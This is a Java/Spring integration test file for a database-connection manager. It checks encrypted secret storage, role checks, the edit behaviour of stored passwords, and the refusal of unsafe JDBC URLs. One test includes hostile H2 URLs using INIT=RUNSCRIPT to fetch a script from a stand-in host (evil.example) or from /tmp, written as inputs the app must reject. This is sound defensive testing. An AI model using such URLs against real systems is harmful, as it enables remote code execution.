package dev.ferry.connection;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;

import dev.ferry.support.ConsoleSession;
import dev.ferry.support.FerryAppTest;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.security.test.context.support.WithMockUser;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestBuilders.formLogin;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.delete;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrl;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Connections through the pages and the API against real SQLite and H2 files: created,
 * tested, edited, refused, and the secret found nowhere but as ciphertext.
 */
@FerryAppTest
@ExtendWith(OutputCaptureExtension.class)
class ConnectionsIntegrationTests {

	static final String H2_SECRET = "h2-Secret-Passw0rd";

	@TempDir
	static Path dir;

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcClient store;

	@Autowired
	ConnectionService connections;

	@BeforeAll
	static void databases() throws SQLException {
		try (Connection sqlite = DriverManager.getConnection("jdbc:sqlite:" + dir.resolve("shop.db"));
				Statement statement = sqlite.createStatement()) {
			statement.execute("CREATE TABLE products (id INTEGER PRIMARY KEY, name TEXT)");
			statement.execute("INSERT INTO products VALUES (1, 'a'), (2, 'b'), (3, 'c')");
			statement.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, product_id INTEGER)");
		}
		try (Connection h2 = DriverManager.getConnection(h2Url("warehouse"), "sa", "");
				Statement statement = h2.createStatement()) {
			statement.execute("CREATE TABLE stock (id INT PRIMARY KEY, qty INT)");
			statement.execute("INSERT INTO stock VALUES (1, 10), (2, 20)");
			keeper(statement);
		}
		try (Connection h2 = DriverManager.getConnection(h2Url("ledger"), "sa", "");
				Statement statement = h2.createStatement()) {
			statement.execute("CREATE TABLE entries (id INT PRIMARY KEY)");
			keeper(statement);
		}
		try (Connection h2 = DriverManager.getConnection(h2Url("other"), "sa", "");
				Statement statement = h2.createStatement()) {
			statement.execute("CREATE TABLE shelves (id INT PRIMARY KEY)");
			keeper(statement);
		}
	}

	/**
	 * Ferry's login in each H2 file: {@code keeper} with {@link #H2_SECRET}, without the
	 * admin right (the file's creator, {@code sa}, is its admin).
	 */
	static void keeper(Statement admin) throws SQLException {
		admin.execute("CREATE USER keeper PASSWORD '" + H2_SECRET + "'");
		admin.execute("GRANT ALTER ANY SCHEMA TO keeper");
	}

	static String h2Url(String name) {
		return "jdbc:h2:file:" + dir.resolve(name).toAbsolutePath();
	}

	@Test
	void connectionsCreatedInThePageAndThroughTheApiBothTestSuccessfully(CapturedOutput output) throws Exception {
		MockHttpSession admin = ConsoleSession.signIn(this.mvc, "admin");
		this.mvc
			.perform(post("/connections").session(admin)
				.with(csrf())
				.param("name", "warehouse")
				.param("jdbcUrl", h2Url("warehouse"))
				.param("username", "keeper")
				.param("password", H2_SECRET))
			.andExpect(redirectedUrl("/connections"));
		this.mvc
			.perform(post("/api/v1/connections").with(httpBasic("admin", FerryAppTest.DEMO_PASSWORD))
				.contentType(MediaType.APPLICATION_JSON)
				.content("""
						{"name": "shop", "jdbcUrl": "jdbc:sqlite:%s", "readOnly": true}
						""".formatted(dir.resolve("shop.db"))))
			.andExpect(status().isCreated())
			.andExpect(jsonPath("$.name").value("shop"))
			.andExpect(jsonPath("$.kind").value("sqlite"))
			.andExpect(jsonPath("$.readOnly").value(true));

		this.mvc.perform(post("/connections/warehouse/test").session(admin).with(csrf()).header("HX-Request", "true"))
			.andExpect(status().isOk())
			.andExpect(content().string(containsString("Connected")))
			.andExpect(content().string(containsString("STOCK")))
			.andExpect(content().string(not(containsString("<html"))));
		this.mvc.perform(post("/api/v1/connections/shop/test").with(httpBasic("operator", FerryAppTest.DEMO_PASSWORD)))
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.ok").value(true))
			.andExpect(jsonPath("$.tables[?(@.name == 'products')].rows").value(3))
			.andExpect(jsonPath("$.tables[?(@.name == 'orders')].rows").value(0));

		String stored = this.store.sql("SELECT secret FROM connection_profiles WHERE name = 'warehouse'")
			.query(String.class)
			.single();
		assertThat(stored).startsWith("v1:").doesNotContain(H2_SECRET);
		this.mvc.perform(get("/connections").session(admin))
			.andExpect(content().string(containsString("warehouse")))
			.andExpect(content().string(not(containsString(H2_SECRET))));
		this.mvc.perform(get("/connections/warehouse/edit").session(admin))
			.andExpect(content().string(containsString("Leave empty to keep the stored password")))
			.andExpect(content().string(not(containsString(H2_SECRET))))
			.andExpect(content().string(not(containsString(stored))));
		this.mvc.perform(get("/api/v1/connections").with(httpBasic("viewer", FerryAppTest.DEMO_PASSWORD)))
			.andExpect(jsonPath("$[?(@.name == 'warehouse')].hasSecret").value(true))
			.andExpect(content().string(not(containsString(H2_SECRET))))
			.andExpect(content().string(not(containsString("v1:"))));
		assertThat(output.getAll()).doesNotContain(H2_SECRET);
	}

	@Test
	void editingWithoutAPasswordKeepsTheSecretForTheSameDatabaseOnly() throws Exception {
		MockHttpSession admin = ConsoleSession.signIn(this.mvc, "admin");
		this.mvc.perform(post("/connections").session(admin)
			.with(csrf())
			.param("name", "depot")
			.param("jdbcUrl", h2Url("warehouse"))
			.param("username", "keeper")
			.param("password", H2_SECRET));
		assertThat(testAsOperator("depot").tables()).extracting(ConnectionCheck.TableRows::name).contains("STOCK");

		// a setting changed, the database the same: the password stays, the pool reopens
		this.mvc
			.perform(post("/connections/depot").session(admin)
				.with(csrf())
				.param("name", "depot")
				.param("jdbcUrl", h2Url("warehouse") + ";LOCK_TIMEOUT=5000")
				.param("username", "keeper")
				.param("password", ""))
			.andExpect(redirectedUrl("/connections"));
		assertThat(testAsOperator("depot").ok()).isTrue();
		assertThat(hasSecret("depot")).isTrue();

		// another database: the stored password is not sent there (issue 20, finding 5)
		this.mvc
			.perform(post("/connections/depot").session(admin)
				.with(csrf())
				.param("name", "depot")
				.param("jdbcUrl", h2Url("other"))
				.param("username", "keeper")
				.param("password", ""))
			.andExpect(redirectedUrl("/connections"));
		assertThat(hasSecret("depot")).isFalse();
		ConnectionCheck without = testAsOperator("depot");
		assertThat(without.ok()).isFalse();
		assertThat(without.message()).contains("Wrong user name or password");

		// typed again: the pool reopens on the other database
		this.mvc
			.perform(post("/connections/depot").session(admin)
				.with(csrf())
				.param("name", "depot")
				.param("jdbcUrl", h2Url("other"))
				.param("username", "keeper")
				.param("password", H2_SECRET))
			.andExpect(redirectedUrl("/connections"));
		ConnectionCheck check = testAsOperator("depot");
		assertThat(check.ok()).as(check.message()).isTrue();
		assertThat(check.tables()).extracting(ConnectionCheck.TableRows::name).containsExactly("SHELVES");

		// another user on the same database: dropped as well
		this.mvc
			.perform(post("/connections/depot").session(admin)
				.with(csrf())
				.param("name", "depot")
				.param("jdbcUrl", h2Url("other"))
				.param("username", "KEEPER2")
				.param("password", ""))
			.andExpect(redirectedUrl("/connections"));
		assertThat(hasSecret("depot")).isFalse();
	}

	private boolean hasSecret(String name) {
		return this.store.sql("SELECT secret FROM connection_profiles WHERE name = ?")
			.param(name)
			.query(String.class)
			.optional()
			.isPresent();
	}

	@Test
	void aBrokenConnectionFailsWithTheDriversMessage() throws Exception {
		this.mvc.perform(post("/api/v1/connections").with(httpBasic("admin", FerryAppTest.DEMO_PASSWORD))
			.contentType(MediaType.APPLICATION_JSON)
			.content("""
					{"name": "wrong-password", "jdbcUrl": "%s", "username": "keeper", "password": "not-it"}
					""".formatted(h2Url("warehouse"))));
		this.mvc
			.perform(post("/api/v1/connections/wrong-password/test")
				.with(httpBasic("operator", FerryAppTest.DEMO_PASSWORD)))
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.ok").value(false))
			.andExpect(jsonPath("$.message").value(containsString("Wrong user name or password")));
		this.mvc.perform(post("/api/v1/connections").with(httpBasic("admin", FerryAppTest.DEMO_PASSWORD))
			.contentType(MediaType.APPLICATION_JSON)
			.content("""
					{"name": "missing-file", "jdbcUrl": "jdbc:h2:file:%s"}
					""".formatted(dir.resolve("no-such-db").toAbsolutePath())));
		this.mvc
			.perform(post("/api/v1/connections/missing-file/test")
				.with(httpBasic("operator", FerryAppTest.DEMO_PASSWORD)))
			.andExpect(jsonPath("$.ok").value(false))
			.andExpect(jsonPath("$.message").value(containsString("not found")));
		assertThat(dir.resolve("no-such-db.mv.db")).as("testing never creates a database").doesNotExist();
	}

	@Test
	void dangerousAndUnsupportedUrlsAreRefusedWithAClearMessage() throws Exception {
		this.mvc
			.perform(post("/api/v1/connections").with(httpBasic("admin", FerryAppTest.DEMO_PASSWORD))
				.contentType(MediaType.APPLICATION_JSON)
				.content("""
						{"name": "evil", "jdbcUrl": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'"}
						"""))
			.andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.error").value(containsString("could run code or write files")));
		this.mvc
			.perform(post("/api/v1/connections").with(httpBasic("admin", FerryAppTest.DEMO_PASSWORD))
				.contentType(MediaType.APPLICATION_JSON)
				.content("""
						{"name": "legacy", "jdbcUrl": "jdbc:mysql://db.example/legacy"}
						"""))
			.andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.error").value(containsString("jdbc:mysql: is not one of them")));
		this.mvc
			.perform(post("/connections").session(ConsoleSession.signIn(this.mvc, "admin"))
				.with(csrf())
				.param("name", "evil")
				.param("jdbcUrl", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/tmp/x.sql'")
				.param("password", "typed-secret-1"))
			.andExpect(status().isBadRequest())
			.andExpect(content().string(containsString("could run code or write files")))
			.andExpect(content().string(not(containsString("typed-secret-1"))));
		assertThat(this.store.sql("SELECT count(*) FROM connection_profiles WHERE name IN ('evil', 'legacy')")
			.query(Long.class)
			.single()).isZero();
	}

	@Test
	void rolesAreCheckedForEveryChange() throws Exception {
		this.mvc
			.perform(post("/api/v1/connections").with(httpBasic("operator", FerryAppTest.DEMO_PASSWORD))
				.contentType(MediaType.APPLICATION_JSON)
				.content("{\"name\": \"x\", \"jdbcUrl\": \"" + h2Url("x") + "\"}"))
			.andExpect(status().isForbidden())
			.andExpect(jsonPath("$.error").isNotEmpty());
		this.mvc.perform(post("/api/v1/connections/x/test").with(httpBasic("viewer", FerryAppTest.DEMO_PASSWORD)))
			.andExpect(status().isForbidden());
		this.mvc
			.perform(put("/api/v1/connections/x").with(httpBasic("reviewer", FerryAppTest.DEMO_PASSWORD))
				.contentType(MediaType.APPLICATION_JSON)
				.content("{\"jdbcUrl\": \"" + h2Url("x") + "\"}"))
			.andExpect(status().isForbidden());
		this.mvc.perform(delete("/api/v1/connections/x").with(httpBasic("owner", FerryAppTest.DEMO_PASSWORD)))
			.andExpect(status().isForbidden());
		this.mvc.perform(get("/connections/new").session(ConsoleSession.signIn(this.mvc, "operator")))
			.andExpect(status().isForbidden());
	}

	@Test
	void deletingAConnectionRemovesItAndItsPool() throws Exception {
		MockHttpSession admin = ConsoleSession.signIn(this.mvc, "admin");
		this.mvc.perform(post("/connections").session(admin)
			.with(csrf())
			.param("name", "short-lived")
			.param("jdbcUrl", "jdbc:sqlite:" + dir.resolve("shop.db")));
		assertThat(testAsOperator("short-lived").ok()).isTrue();
		this.mvc.perform(post("/connections/short-lived/delete").session(admin).with(csrf()))
			.andExpect(redirectedUrl("/connections"));
		this.mvc.perform(get("/api/v1/connections/short-lived").with(httpBasic("viewer", FerryAppTest.DEMO_PASSWORD)))
			.andExpect(status().isNotFound());
	}

	@Test
	@WithMockUser(username = "admin", roles = "ADMIN")
	void readOnlyConnectionsRefuseWritesInTheDatabaseItself() throws Exception {
		this.connections
			.create(new ConnectionCommand("shop-source", "jdbc:sqlite:" + dir.resolve("shop.db"), null, null, true));
		this.connections
			.create(new ConnectionCommand("warehouse-source", h2Url("warehouse"), "keeper", H2_SECRET, true));
		for (String name : new String[] { "shop-source", "warehouse-source" }) {
			try (Connection connection = this.connections.dataSource(name).getConnection();
					Statement statement = connection.createStatement()) {
				connection.setAutoCommit(true);
				assertThatExceptionOfType(SQLException.class)
					.isThrownBy(() -> statement.executeUpdate("CREATE TABLE written (id INT)"));
			}
		}
	}

	private ConnectionCheck testAsOperator(String name) {
		return dev.ferry.security.SystemActor.call(() -> this.connections.test(name));
	}

}
